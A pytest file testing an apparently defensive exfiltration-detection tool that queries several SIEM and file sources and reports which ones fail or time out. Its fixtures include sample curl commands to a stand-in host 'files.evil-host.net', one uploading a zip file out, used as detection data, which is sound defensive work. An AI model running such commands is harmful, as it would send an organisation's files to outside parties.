"""Several sources together: one that fails, is slow or gives only a part costs no other's answer, and is named."""

import asyncio
from collections.abc import AsyncGenerator, Sequence
from datetime import timedelta
from pathlib import Path

import pytest
from tests.polling.memory_siem import MemorySiem

from exfilwatch.errors import SourceError, Unreachable
from exfilwatch.events.event import Event
from exfilwatch.siem.siem import SECOND, Ask
from exfilwatch_playbooks.enrichment import asking
from exfilwatch_playbooks.enrichment.enrich import Enrichers
from exfilwatch_playbooks.enrichment.enrichers.prevalence import Prevalence
from exfilwatch_playbooks.enrichment.history import History, Told, Watch
from exfilwatch_playbooks.enrichment.model import Status
from exfilwatch_playbooks.enrichment.span import micros

from .made import START, UPLOAD, days, means, process, subject_of, written

HOST = "files.evil-host.net"
LOW, HIGH = micros(days(30)), micros(START + timedelta(hours=1))


class Slow(MemorySiem):
    """One that never answers."""

    async def fetch(self, ask: Ask) -> AsyncGenerator[Sequence[bytes], None]:
        await asyncio.sleep(60)
        yield []


class Away(MemorySiem):
    async def fetch(self, ask: Ask) -> AsyncGenerator[Sequence[bytes], None]:
        raise Unreachable(f"{self.name}: nothing listens there")
        yield []


def the_file(folder: Path):
    lines = [process(days(at), f"WS{at}", "x", f"curl https://{HOST}/") for at in range(1, 5)]
    return written(folder / "a.jsonl", lines)


def watched(*sources, patience: float = 0.2) -> tuple[list[Event], Told]:
    async def ask():
        history, found = History(sources, patience=patience), list[Event]()
        try:
            return found, await history.watch(Watch(asking.commands_to(HOST), LOW, HIGH, found.append))
        finally:
            await history.close()

    return asyncio.run(ask())


@pytest.mark.parametrize(
    ("kind", "said"), [(Slow, "memory: no whole answer within 5 s"), (Away, "memory: nothing listens there")]
)
def test_the_others_answer_and_it_is_named(tmp_path: Path, kind, said):
    found, told = watched(kind([]), the_file(tmp_path), patience=5)
    assert sorted(str(each.host) for each in found) == ["WS1", "WS2", "WS3", "WS4"]
    assert not told.whole
    assert told.problems == (said,)


def test_when_nobody_answers_that_is_an_error():
    with pytest.raises(SourceError, match="nothing listens there"):
        watched(Away([]), Away([]))


def test_an_enrichment_that_is_not_whole_says_why_and_is_not_kept(tmp_path: Path, only, store):
    only(Prevalence)

    async def ask(*sources):
        given = means(store)._replace(history=History(sources, patience=40))
        async with Enrichers({}, given) as enrichers:
            (made,) = await enrichers.enrich([subject_of(UPLOAD)])
            return made

    made = asyncio.run(ask(Away([]), the_file(tmp_path)))
    assert made.fact("prevalence.hosts").value == "at least 4"
    assert [(each.label, each.status, each.reason) for each in made.unknown] == [
        ("Prevalence in this organisation, not whole", Status.FAILED, "memory: nothing listens there")
    ]
    again = asyncio.run(ask(MemorySiem([]), the_file(tmp_path)))
    assert again.fact("prevalence.hosts").value == "4"
    assert again.unknown == ()


def test_what_several_ask_at_once_is_asked_once(tmp_path: Path):
    siem = MemorySiem([])
    asked: list[Ask] = []
    fetch = siem.fetch

    def counted(ask: Ask):
        asked.append(ask)
        return fetch(ask)

    siem.fetch = counted  # type: ignore[method-assign]

    async def many():
        history = History([siem])
        watches = [Watch(asking.commands_to(f"h{at}.net"), LOW + at, HIGH + at, lambda _: None) for at in range(10)]
        return await asyncio.gather(*map(history.watch, watches))

    assert all(each.whole for each in asyncio.run(many()))
    assert len(asked) == 1
    assert len(asked[0].rules or ()) == 20
    assert asked[0].low is not None
    assert asked[0].low <= LOW < asked[0].low + SECOND


def test_files_are_read_once_for_all_that_enrichers_ask(tmp_path: Path, monkeypatch):
    readings = list[int]()
    read = History._of_files
    monkeypatch.setattr(History, "_of_files", lambda *asked: readings.append(len(asked[2])) or read(*asked))
    records = [
        process(days(9), "WS2", "x", f"curl https://{HOST}/"),
        process(START, "WS1", "x", f"curl -T q3.zip {HOST}"),
    ]

    async def ask():
        async with Enrichers({}, means(None, written(tmp_path / "a.jsonl", records))) as enrichers:
            (made,) = await enrichers.enrich([subject_of(UPLOAD)])
        return made

    assert "prevalence.hosts" in {fact.key for fact in asyncio.run(ask()).facts}
    assert len(readings) == 1
    assert readings[0] >= 5
